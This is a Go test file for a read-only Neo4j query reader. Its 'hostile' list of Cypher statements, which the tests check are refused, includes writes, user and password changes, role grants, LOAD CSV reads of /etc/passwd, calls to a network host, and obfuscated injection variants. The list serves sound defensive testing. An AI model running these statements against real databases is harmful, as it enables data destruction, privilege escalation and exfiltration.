package neo4j_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/actorgraph/actorgraph/graph"
	"github.com/actorgraph/actorgraph/graph/graphtest"
	"github.com/actorgraph/actorgraph/graph/neo4j"
	"github.com/actorgraph/actorgraph/graph/neo4j/neo4jtest"
)

// hostile are statements that would write, reach elsewhere, or tell of the server or of other
// databases. HOST is a listener's address.
var hostile = []string{
	// Writing, plainly.
	`CREATE (:Actor {name: 'x'})`,
	`MATCH (a) CREATE (b:X) RETURN b`,
	`MERGE (a:Actor {id: 'x'}) RETURN a`,
	`MATCH (a) MERGE (a)-[:X]->(b:X) RETURN a`,
	`MATCH (a:Actor) SET a.name = 'x' RETURN a`,
	`MATCH (a:Actor) SET a += {name: 'x'}`,
	`MATCH (a:Actor) SET a:Pwned RETURN a`,
	`MATCH (a:Actor) REMOVE a.name RETURN a`,
	`MATCH (a:Actor) REMOVE a:Actor`,
	`MATCH (a) DETACH DELETE a`,
	`MATCH (a) NODETACH DELETE a`,
	`MATCH ()-[r]->() DELETE r`,
	`MATCH (a) FOREACH (x IN [1] | SET a.x = x)`,
	`FOREACH (x IN range(1, 10) | CREATE (:X))`,
	`UNWIND range(1, 3) AS i CREATE (n:X {i: i}) RETURN n`,
	`WITH 1 AS x CREATE (n:X) RETURN n`,
	`OPTIONAL MATCH (a) SET a.x = 1`,
	`RETURN 1 AS x UNION CREATE (n:X) RETURN 1 AS x`,
	`MATCH p = (a)-->() SET a.x = 1 RETURN p`,
	// Within subqueries.
	`CALL { CREATE (n:X) RETURN n } RETURN n`,
	`CALL () { CREATE (n:X) } RETURN 1`,
	`MATCH (a) CALL (a) { SET a.x = 1 } RETURN a`,
	`MATCH (a) CALL (a) { DETACH DELETE a } IN TRANSACTIONS OF 1 ROWS`,
	`CALL { CREATE (n:X) } IN CONCURRENT TRANSACTIONS RETURN 1`,
	`MATCH (a) WHERE EXISTS { CREATE (b) RETURN b } RETURN a`,
	`RETURN COUNT { CREATE (b) RETURN b }`,
	`RETURN COLLECT { MERGE (b:X) RETURN b }`,
	// The schema, the server, users.
	`CREATE INDEX pwned FOR (n:Actor) ON (n.x)`,
	`CREATE CONSTRAINT pwned FOR (n:Actor) REQUIRE n.x IS UNIQUE`,
	`CREATE FULLTEXT INDEX pwned FOR (n:Actor) ON EACH [n.x]`,
	`DROP INDEX names`,
	`DROP CONSTRAINT test_lock`,
	`CREATE DATABASE pwned`,
	`DROP DATABASE neo4j`,
	`STOP DATABASE neo4j`,
	`CREATE USER pwned SET PASSWORD 'pwnedpwned'`,
	`ALTER USER neo4j SET PASSWORD 'pwnedpwned'`,
	`ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'pwnedpwned'`,
	`GRANT ROLE admin TO neo4j`,
	`SHOW USERS`,
	`SHOW SETTINGS`,
	`SHOW TRANSACTIONS`,
	`SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN message`,
	`TERMINATE TRANSACTIONS 'neo4j-transaction-1'`,
	`USE system SHOW USERS`,
	`CALL { USE system MATCH (u:User) RETURN u } RETURN u`,
	`ENABLE SERVER 'x'`,
	`DEALLOCATE DATABASES FROM SERVER 'x'`,
	// Elsewhere.
	`LOAD CSV FROM 'http://HOST/a.csv' AS row RETURN row`,
	`LOAD CSV WITH HEADERS FROM 'file:///etc/passwd' AS row RETURN row`,
	`MATCH (a) LOAD CSV FROM 'http://HOST/a.csv' AS row RETURN row`,
	`load/**/csv from 'http://HOST/a.csv' as row return row`,
	`WITH 1 AS x LOAD
	 CSV FROM 'http://HOST/' + x AS row RETURN row`,
	`CALL { LOAD CSV FROM 'http://HOST/a' AS row RETURN row } RETURN row`,
	`RETURN EXISTS { LOAD CSV FROM 'http://HOST/a' AS row RETURN row }`,
	`WITH 1 AS x L\u004FAD CSV FROM 'http://HOST/a' AS row RETURN row`,
	`RETURN '\u0027 AS x LOAD CSV FROM "http://HOST/a" AS row RETURN row //'`,
	"RETURN 1 AS x // a comment\rLOAD CSV FROM 'http://HOST/a' AS row RETURN row",
	"RETURN 'it\\\\' LOAD CSV FROM 'http://HOST/a' AS row RETURN row",
	"RETURN `a``` LOAD CSV FROM 'http://HOST/a' AS row RETURN row",
	// Procedures and functions.
	`CALL apoc.load.json('http://HOST/a') YIELD value RETURN value`,
	`CALL dbms.listConfig() YIELD name, value RETURN name, value`,
	`CALL dbms.security.createUser('x', 'pwnedpwned', false)`,
	`CALL dbms.killConnection('bolt-1')`,
	`CALL dbms.listPools`,
	`CALL db.createLabel('Pwned')`,
	"CALL `db`.`createLabel`('Pwned')",
	`CALL db . createProperty /* x */ ('pwned')`,
	`CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()`,
	`CALL db.clearQueryCaches() YIELD value RETURN value`,
	`CALL db.ping() YIELD success CALL db.createLabel('Pwned') RETURN success`,
	`MATCH (a) OPTIONAL CALL db.createLabel('Pwned') RETURN a`,
	`CALL tx.setMetaData({a: 1})`,
	`CALL genai.vector.encodeBatch(['x'], 'OpenAI', {token: 'x'}) YIELD vector RETURN vector`,
	`RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'})`,
	`RETURN {a:genai.vector.encode('x', 'OpenAI', {token: 'x'})}`,
	`RETURN [x IN [1]|apoc.util.sleep(x)]`,
	`RETURN [1, 2][0..apoc.util.x(1)]`,
	"RETURN `apoc`.`util`.`sleep`(1)",
	`MATCH (a) WHERE NOT!apoc.x(a) RETURN a`,
	`MATCH (n) WHERE n.x = apoc . load /* */ . json ('http://HOST/a') RETURN n`,
	// How it is run.
	`EXPLAIN MATCH (a) RETURN a`,
	`PROFILE MATCH (a) DETACH DELETE a`,
	`CYPHER runtime=slotted CREATE (n)`,
	`CYPHER 25 CREATE (n)`,
	`USING PERIODIC COMMIT LOAD CSV FROM 'http://HOST/a' AS row CREATE (n)`,
	`:param x => 1`,
	`BEGIN`, `COMMIT`,
	// Several, and none.
	`MATCH (a) RETURN a; CREATE (b)`,
	`RETURN 1;;CREATE (b)`,
	`/* MATCH */ CREATE (n)`,
	"// MATCH\nCREATE (n)",
	"`MATCH` (n) CREATE (m)",
	``, ` `, `;`, `'`, "`", `/*`, "MATCH (n) RETURN n\x00", "MATCH (n)\u200b CREATE (m)", "\ufeffCREATE (n)", "\xff",
	strings.Repeat("(", 70_000),
}

// fingerprint is all that a server holds, as a text: what is in the graph, its schema, its users.
func fingerprint(t *testing.T, server neo4jtest.Server) string {
	t.Helper()
	driver := server.Driver(t)
	var out strings.Builder
	for _, query := range []string{
		`MATCH (n) WITH n ORDER BY elementId(n) RETURN count(n), collect(labels(n)), collect(properties(n))`,
		`MATCH ()-[r]->() WITH r ORDER BY elementId(r) RETURN count(r), collect(properties(r))`,
		`SHOW INDEXES YIELD name RETURN collect(name)`, `SHOW CONSTRAINTS YIELD name RETURN collect(name)`,
		`CALL db.labels() YIELD label RETURN collect(label)`, `CALL db.propertyKeys() YIELD propertyKey RETURN collect(propertyKey)`,
		`SHOW USERS YIELD user RETURN collect(user)`, `SHOW DATABASES YIELD name, currentStatus RETURN collect(name + currentStatus)`,
	} {
		for _, r := range server.Do(t, driver, query, nil) {
			fmt.Fprintln(&out, r.Values)
		}
	}
	return out.String()
}

// filled is a server with a graph of a few claims, and a reader of it.
func filled(t *testing.T) (neo4jtest.Server, *neo4j.Reader) {
	t.Helper()
	server := neo4jtest.FromEnv(t)
	store := neo4jtest.Open(t)
	doc := graphtest.Release("acme", "2020-01-01", graphtest.Targeted("actor/acme/kestrel", "country/KR", "2019"), graphtest.Targeted("actor/acme/kestrel", "country/JP", "2014/2017"))
	if _, err := store.Write(t.Context(), doc, graph.WriteOptions{}); err != nil {
		t.Fatal(err)
	}
	reader, err := neo4j.NewReader(server.URI, server.Options())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(reader.Close)
	return server, reader
}

// TestHostileCypher: no statement writes, reaches another machine, or is answered.
func TestHostileCypher(t *testing.T) {
	server, reader := filled(t)
	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	var came atomic.Int32
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			came.Add(1)
			_ = conn.Close() // whoever came has been seen
		}
	}()
	before := fingerprint(t, server)
	for _, statement := range hostile {
		statement = strings.ReplaceAll(statement, "HOST", listener.Addr().String())
		rows, err := reader.Ask(t.Context(), statement, nil, nil)
		if !errors.Is(err, graph.ErrInvalid) {
			t.Errorf("%.100q: %d rows, %v; want it refused", statement, len(rows.Rows), err)
		}
	}
	// Past the first check: what the server itself is asked, and what the plan tells, has to do alone.
	for _, statement := range hostile {
		statement = strings.ReplaceAll(statement, "HOST", listener.Addr().String())
		if rows, err := reader.AskUnchecked(t.Context(), statement); err == nil && !harmlessUnchecked(statement) {
			t.Errorf("%.100q: %d rows, where only the plan and the transaction refuse", statement, len(rows.Rows))
		}
	}
	if after := fingerprint(t, server); after != before {
		t.Errorf("the server holds\n%.2000s\nand held\n%.2000s", after, before)
	}
	if n := came.Load(); n != 0 {
		t.Errorf("%d connections went out", n)
	}
	t.Logf("%d hostile statements", len(hostile))
}

// harmlessUnchecked are statements that a plan does not refuse, and that harm nothing: they say
// how a question is to be explained.
func harmlessUnchecked(statement string) bool {
	return strings.Contains(statement, "EXPLAIN")
}

// TestCypherIsAnswered: what people ask is.
func TestCypherIsAnswered(t *testing.T) {
	_, reader := filled(t)
	for _, tt := range []struct{ query, want string }{
		{`MATCH (a:Actor)-[t:TARGETS]->(p:Country|Region) WHERE t.current AND t.years <= 5 RETURN p.id, min(t.occurredFrom) AS since ORDER BY since`, `[["country/JP","2014-01-01"],["country/KR","2019-01-01"]]`},
		{"// who\nMATCH (a:Actor {id: $id}) RETURN a.id /* the id; CREATE (n) */ ;", `[["actor/acme/kestrel"]]`},
		{`RETURN 'CREATE (n); LOAD CSV' AS text, "it's" AS more`, `[["CREATE (n); LOAD CSV","it's"]]`},
		{"MATCH (`LOAD CSV`:Actor) RETURN `LOAD CSV`.id", `[["actor/acme/kestrel"]]`},
		{`RETURN date('2018-02-20') AS d, duration({days: 1}) AS w, datetime('2018-02-20T10:00:00Z') AS t, point({x: 1, y: 2}) IS NOT NULL AS p`, `[["2018-02-20","P0M1DT0S","2018-02-20T10:00:00Z",true]]`},
		{`RETURN date.truncate('year', date('2018-02-20')) AS d, duration.inDays(date('2018-02-20'), date('2018-02-21')).days AS n`, `[["2018-01-01",1]]`},
		{`CALL db.labels() YIELD label WHERE label = 'Actor' RETURN label`, `[["Actor"]]`},
		{`CALL db.relationshipTypes() YIELD relationshipType AS r WHERE r = 'TARGETS' RETURN r`, `[["TARGETS"]]`},
		{`CALL { MATCH (a:Actor) RETURN a.id AS id UNION RETURN 'x' AS id } RETURN id ORDER BY id`, `[["actor/acme/kestrel"],["x"]]`},
		{`MATCH (a:Actor) CALL (a) { MATCH (a)-[t:TARGETS]->() RETURN count(t) AS n } RETURN n`, `[[2]]`},
		{`MATCH (a:Actor) WHERE EXISTS { (a)-[:TARGETS]->(:Country {id: 'country/KR'}) } RETURN COUNT { (a)-[:TARGETS]->() }`, `[[2]]`},
		{`MATCH p = shortestPath((a:Country {id: 'country/KR'})-[:TARGETS*..3]-(b:Country {id: 'country/JP'})) RETURN length(p)`, `[[2]]`},
		{`UNWIND $list AS x RETURN x, x / 2.0 AS half, [y IN range(1, x)|y][0..1] AS first`, `[[1,0.5,[1]],[2,1,[1]]]`},
		{`RETURN 0.0 / 0.0 AS nan, 9007199254740993 AS large, null AS nothing`, `[["NaN",9007199254740993,null]]`},
		{`OPTIONAL MATCH (n:Nobody) RETURN n`, `[[null]]`},
		{`MATCH (n:Nobody) RETURN n`, `[]`},
	} {
		rows, err := reader.Ask(t.Context(), tt.query, map[string]any{"id": "actor/acme/kestrel", "list": []any{int64(1), int64(2)}}, map[string]any{"who": "ana"})
		if err != nil {
			t.Errorf("%s: %v", tt.query, err)
			continue
		}
		got, err := json.Marshal(rows.Rows)
		if err != nil || string(got) != tt.want || rows.More {
			t.Errorf("%s: %s, %v; want %s", tt.query, got, err, tt.want)
		}
	}
	rows, err := reader.Ask(t.Context(), `MATCH p = (a:Actor)-[t:TARGETS]->(c) RETURN a, t, p LIMIT 1`, nil, nil)
	text, marshalErr := json.Marshal(rows)
	if err != nil || marshalErr != nil || !strings.Contains(string(text), `"type":"TARGETS"`) || !strings.Contains(string(text), `"labels":[`) || !strings.Contains(string(text), `"relationships":[`) {
		t.Errorf("nodes, relationships and paths: %v, %v, %.300s", err, marshalErr, text)
	}
}

// TestCypherIsBounded in rows, in bytes, and in time: by the context, which the server follows.
func TestCypherIsBounded(t *testing.T) {
	server, reader := filled(t)
	rows, err := reader.Ask(t.Context(), `UNWIND range(1, 1000000) AS i RETURN i`, nil, nil)
	if err != nil || len(rows.Rows) != neo4j.CypherRows || !rows.More {
		t.Errorf("%d rows, more: %v, %v", len(rows.Rows), rows.More, err)
	}
	if rows, err = reader.Ask(t.Context(), `UNWIND range(1, 5000) AS i RETURN i`, nil, nil); err != nil || len(rows.Rows) != 5000 || rows.More {
		t.Errorf("%d rows, more: %v, %v; want all 5000", len(rows.Rows), rows.More, err)
	}
	for _, query := range []string{`RETURN range(1, 3000000)`, `UNWIND range(1, 5000) AS i RETURN [x IN range(1, 10000) | 'ten bytes ']`} {
		if rows, err := reader.Ask(t.Context(), query, nil, nil); !errors.Is(err, graph.ErrInvalid) || !strings.Contains(err.Error(), "8 MiB") {
			t.Errorf("%s: %d rows, %v", query, len(rows.Rows), err)
		}
	}
	ctx, cancel := context.WithTimeout(t.Context(), 500*time.Millisecond)
	defer cancel()
	if _, err := reader.Ask(ctx, `UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b WITH a, b WHERE a + b < 0 RETURN count(*)`, nil, map[string]any{"mark": "endless"}); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("an endless question: %v", err)
	}
	// The server has let go of it soon after: long before its own ten seconds.
	driver := server.Driver(t)
	for range 200 {
		if len(server.Do(t, driver, `SHOW TRANSACTIONS YIELD metaData, currentQuery WHERE metaData.mark = 'endless' RETURN currentQuery`, nil)) == 0 {
			return
		}
	}
	t.Error("the server still works on what nobody waits for")
}

// TestCypherThatGoesOn: Neo4j ends no expression before it is worked out. A question that it
// still works on keeps its place, so that no more than a few ever do, and gives it back.
func TestCypherThatGoesOn(t *testing.T) {
	_, reader := filled(t)
	const long = `RETURN reduce(s = 0, i IN range(1, 60000000) | s + i % 7) AS n`
	for range neo4j.CypherAtOnce {
		ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
		_, err := reader.Ask(ctx, long, nil, nil)
		cancel()
		if !errors.Is(err, context.DeadlineExceeded) {
			t.Fatalf("a question that takes seconds: %v", err)
		}
	}
	if _, err := reader.Ask(t.Context(), `RETURN 1`, nil, nil); !errors.Is(err, neo4j.ErrBusy) {
		t.Errorf("one more while all places are held: %v", err)
	}
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for {
		_, err := reader.Ask(t.Context(), `RETURN 1`, nil, nil)
		if err == nil {
			return
		}
		if !errors.Is(err, neo4j.ErrBusy) {
			t.Fatal(err)
		}
		select {
		case <-tick.C:
		case <-t.Context().Done():
			t.Fatal("no place was given back")
		}
	}
}

// TestCypherErrors tell who asks what to do, and whose fault it is.
func TestCypherErrors(t *testing.T) {
	server, reader := filled(t)
	for query, want := range map[string]string{
		`MATCH (a RETURN a`:              "Invalid input",
		`MATCH (a) RETURN b`:             "not defined",
		`RETURN $missing`:                "parameter",
		`RETURN 1 / 0`:                   "zero",
		`MATCH (a) RETURN a.x.y.z(1)`:    "may be called",
		`CALL dbms.components()`:         "db.labels",
		`MATCH (a) SET a.x = 1 RETURN a`: "only questions that read",
	} {
		if _, err := reader.Ask(t.Context(), query, nil, nil); !errors.Is(err, graph.ErrInvalid) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v, want it to tell %q", query, err, want)
		}
	}
	wrong, err := neo4j.NewReader(server.URI, neo4j.Options{User: "neo4j", Password: "no" + os.Getenv("NEO4J_TEST_USER")})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := wrong.Ask(t.Context(), `RETURN 1`, nil, nil); !errors.Is(err, graph.ErrDenied) {
		t.Errorf("with a wrong password: %v", err)
	}
	gone, err := neo4j.NewReader("bolt://127.0.0.1:1", neo4j.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := gone.Ask(t.Context(), `RETURN 1`, nil, nil); !errors.Is(err, graph.ErrUnavailable) {
		t.Errorf("without a server: %v", err)
	}
	if _, err := neo4j.NewReader("sqlite:x", neo4j.Options{}); !errors.Is(err, graph.ErrInvalid) {
		t.Errorf("of a file: %v", err)
	}
	secure := server.TLS(t)
	reader, err = neo4j.NewReader(secure.URI, server.Options())
	if err != nil {
		t.Fatal(err)
	}
	if rows, err := reader.Ask(t.Context(), `RETURN 1 AS one`, nil, nil); err != nil || len(rows.Rows) != 1 {
		t.Errorf("by TLS: %v, %v", rows, err)
	}
}
